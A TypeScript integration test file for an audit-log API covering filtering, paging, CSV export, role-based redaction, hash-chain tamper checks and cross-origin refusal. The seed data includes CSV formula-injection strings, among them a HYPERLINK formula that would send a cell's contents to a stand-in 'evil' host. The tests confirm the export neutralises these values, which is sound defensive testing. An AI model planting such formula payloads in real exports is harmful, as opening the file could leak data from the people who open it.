import { randomBytes } from 'node:crypto';

import { type NestFastifyApplication } from '@nestjs/platform-fastify';
import { type AuditAppendInput, createPrismaClient, type PrismaClient } from '@switchboard/data-access';
import { createTestDatabase, type TestDatabase } from '@switchboard/testing';

import { type SignedInUser, signInAs, startTestApp } from '../../test/api-test-harness';
import { browserSessionOf, consoleHeaders, createUser, ORIGIN, panelLogin } from '../../test/auth-helpers';
import { AuditLog } from './audit-log';

const REDIS_KEY_PREFIX = `sb-test-audit-${randomBytes(4).toString('hex')}`;
const T0 = Date.UTC(2025, 0, 1, 12);
const at = (minutes: number) => new Date(T0 + minutes * 60_000);

/** Parses RFC 4180 text (quoted fields, doubled quotes, CRLF records) into rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += char;
  }
  if (cell !== '' || row.length > 0) throw new Error('CSV does not end with CRLF');
  return rows;
}

describe('audit API', () => {
  let database: TestDatabase;
  let app: NestFastifyApplication;
  let prisma: PrismaClient;
  let admin: SignedInUser;
  let viewer: SignedInUser;

  beforeAll(async () => {
    database = await createTestDatabase();
    app = await startTestApp({ DATABASE_URL: database.url, REDIS_KEY_PREFIX });
    prisma = createPrismaClient(database.url);
    admin = await signInAs(app, 'admin');
    viewer = await signInAs(app, 'viewer');
    const audit = app.get(AuditLog);
    // seq 1..6, in time order.
    const seeded: AuditAppendInput[] = [
      {
        at: at(0),
        actorType: 'user',
        actorId: 'alice',
        action: 'device.ban',
        targetType: 'device',
        targetId: '111111',
      },
      {
        at: at(1),
        actorType: 'user',
        actorId: 'bob',
        action: 'device.ban',
        targetType: 'device',
        targetId: '222222',
      },
      { at: at(2), actorType: 'user', actorId: 'alice', action: 'user.login', ip: '192.0.2.1' },
      {
        at: at(3),
        actorType: 'system',
        actorId: 'signal',
        action: 'device.registration_refused',
        targetType: 'device',
        targetId: '111111',
        details: { reason: 'banned', count: 1 },
      },
      {
        at: at(4),
        actorType: 'user',
        actorId: '=HYPERLINK("http://evil/?"&A1)',
        action: 'user.rename',
        targetType: 'user',
        targetId: '+1 555',
        details: { note: 'comma, "quote"\r\nnew line', other: '@SUM(A1)' },
      },
      {
        at: at(5),
        actorType: 'user',
        actorId: '-2+3',
        action: 'user.login',
        targetId: '\tsheet',
        ip: '@1.2.3.4',
      },
    ];
    for (const entry of seeded) {
      await audit.record(entry);
    }
  });

  afterAll(async () => {
    await app?.close();
    await prisma?.$disconnect();
    await database?.drop();
  });

  const get = (url: string, user: SignedInUser | 'anonymous' = admin) =>
    app.inject({
      method: 'GET',
      url,
      headers:
        user === 'anonymous' ? {} : { authorization: user.authorization, 'user-agent': 'audit-test/1' },
    });
  /** Export and verify are POSTs (issue 10 item 26): filters travel in the JSON body. */
  const post = (url: string, user: SignedInUser | 'anonymous' = admin, payload?: Record<string, string>) =>
    app.inject({
      method: 'POST',
      url,
      headers:
        user === 'anonymous' ? {} : { authorization: user.authorization, 'user-agent': 'audit-test/1' },
      ...(payload === undefined ? {} : { payload }),
    });
  const exportCsv = (filter: Record<string, string> = {}, user: SignedInUser | 'anonymous' = admin) =>
    post('/api/v1/audit/export.csv', user, filter);
  const verify = (user: SignedInUser | 'anonymous' = admin) => post('/api/v1/audit/verify', user);
  const seqsOf = (body: { entries: { seq: string }[] }) => body.entries.map((entry) => entry.seq);

  describe('GET /api/v1/audit', () => {
    it('returns entries newest first, seq as a string and hashes in hex', async () => {
      const response = await get('/api/v1/audit?to=2025-01-01T13:00:00Z');
      expect(response.statusCode).toBe(200);
      const body = response.json<{
        entries: Record<string, string | null>[] & { seq: string }[];
        nextCursor: string | null;
      }>();
      expect(seqsOf(body)).toEqual(['6', '5', '4', '3', '2', '1']);
      expect(body.nextCursor).toBeNull();
      expect(body.entries[5]).toEqual({
        seq: '1',
        at: '2025-01-01T12:00:00.000Z',
        actorType: 'user',
        actorId: 'alice',
        action: 'device.ban',
        targetType: 'device',
        targetId: '111111',
        ip: null,
        details: {},
        keyId: expect.any(String),
        prevHash: '0'.repeat(64),
        hash: expect.stringMatching(/^[0-9a-f]{64}$/),
      });
      expect(body.entries[4]?.prevHash).toBe(body.entries[5]?.hash);
    });

    it.each([
      ['actor', 'actor=alice', ['3', '1']],
      ['action', 'action=device.ban', ['2', '1']],
      ['target', 'targetType=device&targetId=111111', ['4', '1']],
      ['from (inclusive)', 'from=2025-01-01T12:04:00Z&to=2025-01-01T13:00:00Z', ['6', '5']],
      ['to (exclusive)', 'to=2025-01-01T12:01:00Z', ['1']],
      [
        'from and to with an offset',
        'from=2025-01-01T13:01:00%2B01:00&to=2025-01-01T13:03:00%2B01:00',
        ['3', '2'],
      ],
      ['actor and action', 'actor=alice&action=user.login', ['3']],
      ['nothing matching', 'actor=nobody', []],
    ])('filters by %s', async (_label, query, seqs) => {
      const response = await get(`/api/v1/audit?${query}`);
      expect(response.statusCode).toBe(200);
      expect(seqsOf(response.json())).toEqual(seqs);
    });

    it('pages with a cursor, every entry exactly once', async () => {
      const seen: string[] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const query: string = `limit=2&to=2025-01-01T13:00:00Z${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`;
        const response = await get(`/api/v1/audit?${query}`);
        expect(response.statusCode).toBe(200);
        const body: { entries: { seq: string }[]; nextCursor: string | null } = response.json();
        expect(body.entries.length).toBeLessThanOrEqual(2);
        seen.push(...seqsOf(body));
        cursor = body.nextCursor;
        pages++;
      } while (cursor !== null);
      expect(seen).toEqual(['6', '5', '4', '3', '2', '1']);
      expect(pages).toBe(3);
    });

    it.each([
      ['limit 0', 'limit=0', 'limit'],
      ['limit 501', 'limit=501', 'limit'],
      ['a limit that is not a number', 'limit=ten', 'limit'],
      ['a malformed cursor', 'cursor=nope', 'cursor'],
      ['a date that is not ISO 8601', 'from=yesterday', 'from'],
      ['from after to', 'from=2025-01-02T00:00:00Z&to=2025-01-01T00:00:00Z', 'to'],
      ['an unknown parameter', 'actorId=alice', ''],
      ['a repeated parameter', 'actor=a&actor=b', 'actor'],
      ['an oversized actor', `actor=${'a'.repeat(129)}`, 'actor'],
    ])('refuses %s (400)', async (_label, query, field) => {
      const response = await get(`/api/v1/audit?${query}`);
      expect(response.statusCode).toBe(400);
      expect(response.json().message).toEqual(
        expect.arrayContaining([
          field === '' ? expect.any(String) : expect.stringMatching(new RegExp(`^${field}: `)),
        ]),
      );
    });

    it('is open to viewers (audit.view), closed without credentials', async () => {
      expect((await get('/api/v1/audit', viewer)).statusCode).toBe(200);
      expect((await get('/api/v1/audit', 'anonymous')).statusCode).toBe(401);
    });
  });

  describe('POST /api/v1/audit/export.csv', () => {
    it('streams the filtered range as RFC 4180 CSV with formula cells neutralised', async () => {
      const response = await exportCsv({ to: '2025-01-01T13:00:00Z' });
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['content-disposition']).toMatch(
        /^attachment; filename="audit-[\dT:-]+Z\.csv"$/,
      );
      expect(response.headers['cache-control']).toBe('no-store');
      expect(
        response.body.startsWith(
          'seq,at,actor_type,actor_id,action,target_type,target_id,ip,details,key_id,prev_hash,hash\r\n',
        ),
      ).toBe(true);
      const rows = parseCsv(response.body);
      expect(rows).toHaveLength(7);
      expect(rows.slice(1).map((row) => row[0])).toEqual(['6', '5', '4', '3', '2', '1']);
      const bySeq = new Map(rows.slice(1).map((row) => [row[0], row]));
      const five = bySeq.get('5')!;
      expect(five[3]).toBe(`'=HYPERLINK("http://evil/?"&A1)`);
      expect(five[6]).toBe(`'+1 555`);
      // Details are one JSON cell (canonical form), quoted because of its commas and quotes.
      expect(JSON.parse(five[8]!)).toEqual({ note: 'comma, "quote"\r\nnew line', other: '@SUM(A1)' });
      expect(response.body).toContain(
        '"{""note"":""comma, \\""quote\\""\\r\\nnew line"",""other"":""@SUM(A1)""}"',
      );
      const six = bySeq.get('6')!;
      expect(six[3]).toBe(`'-2+3`);
      expect(six[6]).toBe(`'\tsheet`);
      expect(six[7]).toBe(`'@1.2.3.4`);
      // Empty cells for nulls; hashes as in the JSON API.
      expect(bySeq.get('3')![5]).toBe('');
      const json = (await get('/api/v1/audit?actor=alice&action=device.ban')).json();
      expect(bySeq.get('1')![11]).toBe(json.entries[0].hash);
    });

    it('applies the filters', async () => {
      const rows = parseCsv((await exportCsv({ actor: 'alice' })).body);
      expect(rows.slice(1).map((row) => row[0])).toEqual(['3', '1']);
    });

    it('records who exported what (audit.exported)', async () => {
      await exportCsv({ action: 'user.login' });
      const entry = await prisma.auditEntry.findFirst({
        where: { action: 'audit.exported' },
        orderBy: { seq: 'desc' },
      });
      expect(entry).toMatchObject({
        actorType: 'user',
        actorId: admin.user.id,
        ip: '127.0.0.1',
        details: { filter: { action: 'user.login' }, format: 'csv', userAgent: 'audit-test/1' },
      });
    });

    it('exports a log larger than many pages completely', async () => {
      const audit = app.get(AuditLog);
      await Promise.all(
        Array.from({ length: 1234 }, (_, index) =>
          audit.record({ actorType: 'system', actorId: 'bulk', action: 'test.bulk', targetId: `${index}` }),
        ),
      );
      const rows = parseCsv((await exportCsv({ actor: 'bulk' })).body);
      expect(rows).toHaveLength(1235);
      expect(new Set(rows.slice(1).map((row) => row[6])).size).toBe(1234);
    });

    it('refuses viewers (audit.verify) and bad filters', async () => {
      expect((await exportCsv({}, viewer)).statusCode).toBe(403);
      expect((await exportCsv({}, 'anonymous')).statusCode).toBe(401);
      expect((await exportCsv({ cursor: 'x' })).statusCode).toBe(400);
      expect((await exportCsv({ from: 'never' })).statusCode).toBe(400);
    });
  });

  describe('what each role reads (issue 10 item 10)', () => {
    let operator: SignedInUser;
    let target: SignedInUser;

    beforeAll(async () => {
      operator = await signInAs(app, 'operator');
      target = await signInAs(app, 'viewer');
      const change = (method: 'PATCH' | 'PUT', url: string, payload: Record<string, unknown>) =>
        app.inject({ method, url, headers: { authorization: admin.authorization }, payload });
      const patched = await change('PATCH', `/api/v1/users/${target.user.id}`, {
        email: 'private@example.com',
        note: 'on leave until March',
      });
      expect(patched.statusCode).toBe(200);
      expect((await change('PUT', '/api/v1/settings/ui.banner', { value: 'internal only' })).statusCode).toBe(
        200,
      );
      expect(
        (await change('PUT', '/api/v1/settings/smtp.password', { value: 'hunter2-smtp' })).statusCode,
      ).toBe(200);
    });

    const entryOf = async (reader: SignedInUser, action: string, targetId: string) => {
      const response = await get(`/api/v1/audit?action=${action}&targetId=${targetId}`, reader);
      expect(response.statusCode).toBe(200);
      const [entry] = response.json<{ entries: Record<string, unknown>[] }>().entries;
      return entry;
    };

    it.each([
      ['viewer', () => viewer],
      ['operator', () => operator],
    ])('cuts users’ names, emails and notes and settings values for a %s', async (_role, reader) => {
      const updated = await entryOf(reader(), 'user.updated', target.user.id);
      expect(updated).toMatchObject({
        redacted: true,
        details: {
          username: '[redacted]',
          fields: ['email', 'note'],
          changes: {
            email: { from: '[redacted]', to: '[redacted]' },
            note: { from: '[redacted]', to: '[redacted]' },
          },
        },
      });
      const setting = await entryOf(reader(), 'setting.changed', 'ui.banner');
      expect(setting).toMatchObject({ redacted: true, details: { old: '[redacted]', new: '[redacted]' } });
      const body = JSON.stringify([updated, setting]);
      for (const secret of ['private@example.com', 'on leave', 'internal only', target.user.username])
        expect(body).not.toContain(secret);
    });

    it('shows an admin everything, and unredacted entries carry no marker', async () => {
      const updated = await entryOf(admin, 'user.updated', target.user.id);
      expect(updated).not.toHaveProperty('redacted');
      expect(updated?.['details']).toMatchObject({
        username: target.user.username,
        changes: { email: { from: null, to: 'private@example.com' } },
      });
      expect((await entryOf(admin, 'setting.changed', 'ui.banner'))?.['details']).toMatchObject({
        new: 'internal only',
      });
    });

    it('never stores the value of a secret setting, for anyone to read', async () => {
      const stored = await prisma.auditEntry.findFirst({
        where: { action: 'setting.changed', targetId: 'smtp.password' },
      });
      expect(stored?.details).toMatchObject({ old: null, new: '[secret: not recorded]', secret: true });
      expect(JSON.stringify(stored?.details)).not.toContain('hunter2');
    });
  });

  describe('POST /api/v1/audit/verify', () => {
    it('reports an intact chain, records the check, and names the first entry tampered with', async () => {
      const head = await prisma.auditEntry.count();
      const intact = await verify();
      expect(intact.statusCode).toBe(200);
      expect(intact.json()).toEqual({
        ok: true,
        checked: head,
        headSeq: String(head),
        checkpoints: expect.any(Array),
      });
      const recorded = await prisma.auditEntry.findFirst({
        where: { action: 'audit.verified' },
        orderBy: { seq: 'desc' },
      });
      expect(recorded).toMatchObject({
        actorId: admin.user.id,
        details: { ok: true, checked: head, headSeq: String(head) },
      });

      await prisma.$executeRawUnsafe(
        `UPDATE audit_entries SET details = '{"reason":"pending","count":1}' WHERE seq = 4`,
      );
      const broken = await verify();
      expect(broken.statusCode).toBe(200);
      expect(broken.json()).toEqual({
        ok: false,
        checked: 3,
        lastGoodSeq: '3',
        firstBroken: { seq: '4', reason: 'hash mismatch', detail: 'content does not match its hash' },
        checkpoints: expect.any(Array),
      });
      const failed = await prisma.auditEntry.findFirst({
        where: { action: 'audit.verified' },
        orderBy: { seq: 'desc' },
      });
      expect(failed?.details).toMatchObject({
        ok: false,
        checked: 3,
        brokenSeq: '4',
        reason: 'hash mismatch',
      });

      await prisma.$executeRawUnsafe(`DELETE FROM audit_entries WHERE seq = 2`);
      expect((await verify()).json()).toMatchObject({
        ok: false,
        checked: 1,
        firstBroken: { seq: '2', reason: 'seq gap' },
      });
    });

    it('refuses viewers and the anonymous', async () => {
      expect((await verify(viewer)).statusCode).toBe(403);
      expect((await verify('anonymous')).statusCode).toBe(401);
    });
  });
  describe('export and verify are not GETs (issue 10 item 26)', () => {
    it('answers GET with 404, so a link or an image cannot set them off', async () => {
      expect((await get('/api/v1/audit/verify')).statusCode).toBe(404);
      expect((await get('/api/v1/audit/export.csv')).statusCode).toBe(404);
    });

    it('refuses them from a console session on another site (Origin check), allows them from its own', async () => {
      const user = await createUser(app, 'admin');
      const browser = browserSessionOf(await panelLogin(app, user));
      const from = (origin: string) => ({ ...consoleHeaders(browser), origin });
      const foreign = await app.inject({
        method: 'POST',
        url: '/api/v1/audit/verify',
        headers: from('https://evil.example'),
      });
      expect(foreign.statusCode).toBe(403);
      const foreignExport = await app.inject({
        method: 'POST',
        url: '/api/v1/audit/export.csv',
        headers: from('https://evil.example'),
        payload: {},
      });
      expect(foreignExport.statusCode).toBe(403);
      const own = await app.inject({ method: 'POST', url: '/api/v1/audit/verify', headers: from(ORIGIN) });
      expect(own.statusCode).toBe(200);
    });
  });
});
